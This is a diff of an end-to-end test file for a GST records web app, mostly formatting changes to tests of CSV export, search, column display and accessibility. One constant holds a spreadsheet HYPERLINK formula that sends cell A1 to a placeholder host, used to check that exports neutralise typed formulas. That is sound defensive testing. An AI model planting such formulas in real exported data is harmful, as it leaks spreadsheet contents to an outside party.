@@ -15,20 +15,22 @@ import { MATCH_REASON_CODES } from '../../packages/gst-ims/src/core/vocabulary/m
 import { csvCell } from '../../packages/gst-ims/src/io/csv-cell.js';
 import type { RecordsPayload } from '../../packages/gst-ims/src/server/api-types.js';
 import { FLAG } from '../../packages/gst-ims/src/server/api-types.js';
-import {
-  neutraliseFormula,
-  plainRupees,
-  viewCsv,
-} from '../../packages/web/src/view-table.js';
+import { neutraliseFormula, plainRupees, viewCsv } from '../../packages/web/src/view-table.js';
 import { CHROMIUM_ARGS } from '../../scripts/find-chromium.mjs';
-import { CHROMIUM, REQUIRED, SHOTS, WEB_DIST, startServe, warnIfNoChromium } from '../support/e2e.js';
+import {
+  CHROMIUM,
+  REQUIRED,
+  SHOTS,
+  WEB_DIST,
+  startServe,
+  warnIfNoChromium,
+} from '../support/e2e.js';
 
 warnIfNoChromium('POLISH BROWSER TESTS');
 
 const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
 const AXE_SOURCE = createRequire(import.meta.url).resolve('axe-core/axe.min.js');
 const FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"click")';
-
 
 describe("the web's CSV cells follow the engine's formula rule", () => {
   const samples = [
@@ -50,9 +52,13 @@ describe("the web's CSV cells follow the engine's formula rule", () => {
   it('neutralises exactly what io/csv-cell.ts neutralises, and quotes the same', () => {
     for (const s of samples) {
       const t = { columns: [{ header: 'h', kind: 'text' as const }], rows: [[s]] };
-      const line = viewCsv(t).replace(/^\ufeff/, '').split('\r\n')[1];
+      const line = viewCsv(t)
+        .replace(/^\ufeff/, '')
+        .split('\r\n')[1];
       expect([s, line]).toEqual([s, csvCell(s)]);
-      expect(neutraliseFormula(s).startsWith("'")).toBe(csvCell(s).replace(/^"/, '').startsWith("'"));
+      expect(neutraliseFormula(s).startsWith("'")).toBe(
+        csvCell(s).replace(/^"/, '').startsWith("'"),
+      );
     }
   });
   it('writes amounts as plain rupees and dates as DD-MM-YYYY', () => {
@@ -72,7 +78,6 @@ describe("the web's CSV cells follow the engine's formula rule", () => {
     expect(csv).toBe('\ufeffValue ₹,Doc date\r\n-10.50,03-10-2026\r\n,\r\n');
   });
 });
-
 
 interface ApiRecord {
   key: string;
@@ -201,11 +206,7 @@ describe.skipIf(CHROMIUM === null && !REQUIRED)(
       // A remark someone typed that a spreadsheet would run: the export must not let it.
       const target = bySupplier
         .get(pick.gstin)!
-        .find(
-          (r) =>
-            r.section === 'b2b' &&
-            (r.flags & (FLAG.gone | FLAG.remarksBlocked)) === 0,
-        );
+        .find((r) => r.section === 'b2b' && (r.flags & (FLAG.gone | FLAG.remarksBlocked)) === 0);
       expect(target).toBeDefined();
       formulaKey = target!.key;
       const status = await page.evaluate(
@@ -347,7 +348,10 @@ describe.skipIf(CHROMIUM === null && !REQUIRED)(
       // A search narrows the export to what it shows.
       await page.fill('#quick-search', target.docNumber);
       await page.waitForFunction(
-        (n) => !document.querySelector('[data-testid=grid-counts]')?.textContent?.includes(`Showing ${n} `),
+        (n) =>
+          !document
+            .querySelector('[data-testid=grid-counts]')
+            ?.textContent?.includes(`Showing ${n} `),
         pick.n.toLocaleString('en-IN'),
       );
       const shown = await shownCount(page);
@@ -403,13 +407,20 @@ describe.skipIf(CHROMIUM === null && !REQUIRED)(
       await page.goto(`${serve.url}records`);
       await waitForCounts(page, 'Showing 1,500 of 1,500 records');
       await page.getByRole('button', { name: /^Columns/ }).click();
-      await page.locator('.chooser label').filter({ hasText: 'Return period' }).locator('input').check();
+      await page
+        .locator('.chooser label')
+        .filter({ hasText: 'Return period' })
+        .locator('input')
+        .check();
       await page.evaluate(() =>
         (
           window as unknown as { __gstImsGrid: { ensureColumnVisible(c: string): void } }
         ).__gstImsGrid.ensureColumnVisible('returnPeriod'),
       );
-      await page.locator('.ag-center-cols-container .ag-cell[col-id="returnPeriod"]').first().waitFor();
+      await page
+        .locator('.ag-center-cols-container .ag-cell[col-id="returnPeriod"]')
+        .first()
+        .waitFor();
       const cells = await page
         .locator('.ag-center-cols-container .ag-cell[col-id="returnPeriod"]')
         .allInnerTexts();
@@ -453,7 +464,7 @@ describe.skipIf(CHROMIUM === null && !REQUIRED)(
       await expect(box.getAttribute('aria-invalid')).resolves.toBe('false');
     });
 
-    it('gives the upload files\' sizes in KB or MB, grouped', async () => {
+    it("gives the upload files' sizes in KB or MB, grouped", async () => {
       await page.goto(`${serve.url}upload`);
       await page.getByTestId('generate-upload').click();
       const files = page.getByTestId('upload-files');
@@ -492,9 +503,14 @@ describe.skipIf(CHROMIUM === null && !REQUIRED)(
       expect(mine.count).toBe(pick.n);
       // Found by its GSTIN; its row shows its counts and net ITC as on screen elsewhere.
       await page.getByRole('searchbox', { name: 'Find a supplier' }).fill(pick.gstin.toLowerCase());
-      await page.getByTestId('supplier-counts').getByText(`1 of ${gstins.size} suppliers`).waitFor();
+      await page
+        .getByTestId('supplier-counts')
+        .getByText(`1 of ${gstins.size} suppliers`)
+        .waitFor();
       await page.waitForFunction(
-        () => document.querySelectorAll('.suppliers-grid .ag-center-cols-container .ag-row').length === 1,
+        () =>
+          document.querySelectorAll('.suppliers-grid .ag-center-cols-container .ag-row').length ===
+          1,
       );
       const row = page.locator('.suppliers-grid .ag-center-cols-container .ag-row').first();
       await expect(row.locator('[col-id="gstin"]').innerText()).resolves.toBe(pick.gstin);
@@ -543,7 +559,10 @@ describe.skipIf(CHROMIUM === null && !REQUIRED)(
       await waitForCounts(page, 'Showing 1,500 of 1,500 records');
       await page.fill('#quick-search', 'mismatch');
       await page.waitForFunction(
-        () => !document.querySelector('[data-testid=grid-counts]')?.textContent?.includes('Showing 1,500'),
+        () =>
+          !document
+            .querySelector('[data-testid=grid-counts]')
+            ?.textContent?.includes('Showing 1,500'),
       );
       await page.locator('.ag-center-cols-container .ag-cell[col-id="docNumber"]').first().click();
       const panel = page.getByTestId('reconciliation');
@@ -555,7 +574,10 @@ describe.skipIf(CHROMIUM === null && !REQUIRED)(
     it('is clean under axe-core: the Suppliers page, the supplier list open, a date typed', async () => {
       const found: string[] = [];
       await page.goto(`${serve.url}suppliers`);
-      await page.getByTestId('supplier-counts').getByText(/ suppliers · /).waitFor();
+      await page
+        .getByTestId('supplier-counts')
+        .getByText(/ suppliers · /)
+        .waitFor();
       found.push(...(await axeViolations(page)).map((v) => `suppliers: ${v}`));
       await page.goto(`${serve.url}records`);
       await waitForCounts(page, 'Showing 1,500 of 1,500 records');
